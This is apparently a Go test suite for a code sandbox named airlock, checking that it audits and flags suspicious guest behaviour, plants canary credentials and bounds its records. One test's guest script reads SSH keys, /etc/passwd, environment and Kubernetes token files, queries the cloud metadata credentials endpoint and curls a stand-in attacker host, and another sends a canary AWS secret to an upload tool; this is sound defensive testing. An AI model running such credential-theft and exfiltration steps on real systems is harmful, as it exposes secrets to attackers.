package airlock_test

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/airlock-sandbox/airlock"
	"github.com/airlock-sandbox/airlock/hostfuncs"
)

func reasons(res *airlock.Result) string {
	var out []string
	for _, s := range res.Suspicious {
		out = append(out, s.Reason)
	}
	return strings.Join(out, ",")
}

func hasEvent(res *airlock.Result, kind, detail string) bool {
	for _, e := range res.Audit {
		if e.Kind == kind && strings.Contains(e.Detail, detail) {
			return true
		}
	}
	return false
}

// An honest data script, the standard library's own look-ups included
// (mimetypes, zoneinfo), is not suspicious.
func TestAuditHonestRun(t *testing.T) {
	res := mustRunResult(t, airlock.Request{Code: `import csv, io, json, mimetypes, zoneinfo, datetime
rows = list(csv.reader(io.StringIO("a,b\n1,2\n")))
print(json.dumps(rows), mimetypes.guess_type("x.csv")[0])
try:  # the npm build has no tz database; the look-ups happen anyway
    print(datetime.datetime(2026, 1, 1, tzinfo=zoneinfo.ZoneInfo("Europe/Paris")).utcoffset())
except zoneinfo.ZoneInfoNotFoundError:
    print("no tz database")
open("out.txt", "w").write("done")
import os; print(sorted(os.listdir(".")))`})
	if len(res.Suspicious) != 0 {
		t.Fatalf("honest run flagged %+v; audit %+v", res.Suspicious, res.Audit)
	}
	// The guest's report device is hidden: nothing to list, stat or count
	// (/dev holds /dev/null only).
	res = mustRunResult(t, airlock.Request{Code: "import os\nprint(os.path.exists('/dev/airlock-audit'), os.listdir('/dev'))"})
	if string(res.Stdout) != "False ['null']\n" {
		t.Fatalf("the audit device shows: %q", res.Stdout)
	}
}

// A run that behaves as an injected one would is recorded and flagged.
func TestAuditInjectedRun(t *testing.T) {
	res, _ := run(t, airlock.Request{Code: `import os, subprocess, urllib.request
for p in ["/etc/passwd", os.path.expanduser("~/.ssh/id_rsa"), "/proc/self/environ", "/var/run/secrets/kubernetes.io/serviceaccount/token"]:
    try:
        open(p).read()
    except OSError:
        pass
try:
    urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
except Exception as e:
    print("url:", type(e).__name__)
try:
    subprocess.run(["curl", "https://evil.example/x"])
except PermissionError:
    print("no process")
`})
	if got := reasons(res); !strings.Contains(got, "credential_probe") || !strings.Contains(got, "metadata_endpoint") {
		t.Errorf("reasons %q; audit %+v", got, res.Audit)
	}
	for _, want := range []struct{ kind, detail string }{
		{airlock.AuditProbe, "/etc/passwd"}, {airlock.AuditProbe, "/home/user/.ssh/id_rsa"},
		{airlock.AuditProbe, "/proc/self/environ"}, {airlock.AuditRefused, "network: socket.getaddrinfo('169.254.169.254', 80"},
		{airlock.AuditRefused, "process: start a process(['curl', 'https://evil.example/x'],)"},
	} {
		if !hasEvent(res, want.kind, want.detail) {
			t.Errorf("no %s event %q in %+v", want.kind, want.detail, res.Audit)
		}
	}
	for _, e := range res.Audit {
		if e.Kind == airlock.AuditRefused && !e.Guest || e.Kind == airlock.AuditProbe && e.Guest || e.Count < 1 || e.At <= 0 {
			t.Errorf("event %+v", e)
		}
	}
}

func TestAuditCanaries(t *testing.T) {
	ctx := context.Background()
	secret, key := "AKIAFAKECANARY0001", "wJalrXUtnFEMI/K7MDENG/CANARYKEY"
	var sent []string
	echo := hostfuncs.Func("upload", "Send text somewhere.", func(_ context.Context, s string) (bool, error) {
		sent = append(sent, s)
		return true, nil
	})
	s, err := airlock.New(ctx, append(suiteOptions(), airlock.WithHostFuncs(echo), airlock.WithCanaries(
		airlock.Canary{Path: ".aws/credentials", Value: []byte("[default]\naws_access_key_id = " + secret + "\n")},
		airlock.Canary{Env: "AWS_SECRET_ACCESS_KEY", Value: []byte(key)},
	))...)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close(ctx)
	runOn := func(code string) *airlock.Result {
		t.Helper()
		res, _ := s.Run(ctx, airlock.Request{Code: code})
		if res.ExitCode != 0 {
			t.Fatalf("%s: exit %d\n%s", code, res.ExitCode, res.Stderr)
		}
		return res
	}
	// Untouched, the canaries flag nothing and are not reported as files.
	res := runOn("import os\nprint(len(os.listdir('.aws')), 'AWS_SECRET_ACCESS_KEY' in os.environ)\nopen('x.txt', 'w').write('x')")
	if string(res.Stdout) != "1 True\n" || len(res.Suspicious) != 0 || len(res.Files) != 1 || res.Files[0].Path != "/home/user/x.txt" {
		t.Fatalf("untouched: %q, %+v, files %+v", res.Stdout, res.Suspicious, res.Files)
	}
	cases := map[string]string{
		"read the file":     "open('/home/user/.aws/credentials').read()",
		"print the env":     "import os\nprint(dict(os.environ))",
		"write it out":      "import os\nopen('leak.txt', 'w').write(os.environ['AWS_SECRET_ACCESS_KEY'])",
		"send it to a tool": "import os, airlock\nairlock.tools.upload('k=' + os.environ['AWS_SECRET_ACCESS_KEY'])",
	}
	for name, code := range cases {
		res := runOn(code)
		if reasons(res) != "canary" || !hasEvent(res, airlock.AuditCanary, "canary") {
			t.Errorf("%s: reasons %q, audit %+v", name, reasons(res), res.Audit)
		}
	}
	if len(sent) != 1 || !strings.Contains(sent[0], key) {
		t.Errorf("the tool got %q", sent)
	}
	// Tool calls are recorded by name and outcome; their arguments are not.
	res = runOn("import airlock\nairlock.tools.upload('private words')\ntry:\n    airlock.tools.upload(1, 2, 3)\nexcept airlock.HostError:\n    pass")
	if !hasEvent(res, airlock.AuditTool, "upload: ok in ") || !hasEvent(res, airlock.AuditTool, "upload: invalid_arguments in ") {
		t.Errorf("tool events %+v", res.Audit)
	}
	for _, e := range res.Audit {
		if strings.Contains(e.Detail, "private words") {
			t.Errorf("an argument is in the audit: %+v", e)
		}
	}
	for _, bad := range []airlock.Canary{{Path: "a", Env: "B", Value: []byte("12345678")}, {Env: "X", Value: []byte("short")},
		{Env: "NOT A NAME", Value: []byte("12345678")}, {Path: "/", Value: []byte("12345678")}, {Path: "/dev/airlock", Value: []byte("12345678")}} {
		if _, err := airlock.New(ctx, airlock.WithCanaries(bad)); !errors.Is(err, airlock.ErrInvalidCanary) {
			t.Errorf("canary %+v: %v, want ErrInvalidCanary", bad, err)
		}
	}
}

// The record is bounded whatever the guest does; a limit that ends a run
// is in it.
func TestAuditBounds(t *testing.T) {
	res := mustRunResult(t, airlock.Request{Code: `import os
for i in range(5000):
    os.path.exists("/etc/probe%d" % i)
fd = os.open("/dev/airlock-audit", os.O_WRONLY)
os.write(fd, b"network\t" + b"x" * 100000 + b"\n")
os.write(fd, b"made-up\tkind\n" * 1000)
os.write(fd, b"\xff" * 1000000)
os.close(fd)`})
	if len(res.Audit) != 128 || res.AuditDropped < 5000-128 || reasons(res) != "host_probing" {
		t.Fatalf("%d events, %d dropped, reasons %q", len(res.Audit), res.AuditDropped, reasons(res))
	}
	for _, e := range res.Audit {
		if len(e.Detail) > 256 {
			t.Fatalf("a %d-byte detail", len(e.Detail))
		}
	}
	res, _ = run(t, airlock.Request{Code: "while True: pass", Limits: airlock.Limits{Timeout: 200e6}})
	if !hasEvent(res, airlock.AuditLimit, "timeout") {
		t.Errorf("timeout not in %+v", res.Audit)
	}
}
